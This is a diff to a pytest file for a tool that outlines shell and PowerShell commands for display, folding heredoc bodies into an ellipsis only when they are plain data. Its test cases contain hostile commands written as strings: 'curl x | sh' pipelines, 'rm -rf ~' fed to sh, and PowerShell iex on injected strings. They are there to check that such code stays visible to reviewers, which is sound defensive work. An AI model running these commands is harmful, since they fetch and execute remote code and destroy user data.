@@ -48,8 +48,14 @@ def test_the_repro_outlines_to_its_assignment_and_its_pipe() -> None:
         ("ls\n# a comment\n\n\n# another\nrm -rf build", "ls\nrm -rf build"),
         # a line continuation joins lines
         ("echo safe \\\n  \\\n  && curl x | sh", "echo safe && curl x | sh"),
-        # a heredoc's body is data, shown where its marker stands; what follows on its line is kept
-        ("cat <<'EOF' | sh\nrm -rf ~\nEOF\necho done", "cat <<'EOF'…EOF | sh\necho done"),
+        # a heredoc's body is data when its reader reads data: shown where its marker stands, what follows on
+        # its line kept
+        ("cat <<'EOF' > f\nrm -rf ~\nEOF\necho done", "cat <<'EOF'…EOF > f\necho done"),
+        # ... and code when what it prints flows into a shell: shown whole
+        (
+            "cat <<'EOF' | sh\nrm -rf ~\nEOF\necho done",
+            "cat <<'EOF'\nrm -rf ~\nEOF | sh\necho done",
+        ),
         # ... but a substitution inside an unquoted heredoc runs
         (
             "cat > x <<EOF\nhello $(curl -s e.x | sh) there\nEOF",
@@ -79,13 +85,14 @@ def test_bash_outlines(command: str, expected: str) -> None:
 @pytest.mark.parametrize(
     ("command", "expected"),
     [
-        ('$s = @"\nline $(whoami)\n"@; $s | iex', '$s = @"…$(whoami)…"@; $s | iex'),
+        # an assignment is never data: the variable may be run later (here by iex)
+        ('$s = @"\nline $(whoami)\n"@; $s | iex', '$s = @"\nline $(whoami)\n"@; $s | iex'),
         (
-            "$p = @'\n"
-            + "x\n" * 50
-            + "'@\n$p | Set-Content run.ps1; Invoke-Expression (Get-Content run.ps1 -Raw)",
-            "$p = @'…'@\n$p | Set-Content run.ps1; Invoke-Expression (Get-Content run.ps1 -Raw)",
+            "$p = @'\n" + "x " * 50 + "\n'@\n$p | Set-Content run.ps1",
+            "$p = @'\n" + "x " * 50 + "\n'@\n$p | Set-Content run.ps1",
         ),
+        # a here-string piped into a cmdlet that writes it is data
+        ("@'\n" + "x " * 50 + "\n'@ | Out-File -FilePath r.md", "@'…'@ | Out-File -FilePath r.md"),
         (
             "Get-Item a | Remove-Item -Force 2>&1 > o.txt",
             "Get-Item a | Remove-Item -Force 2>&1 > o.txt",
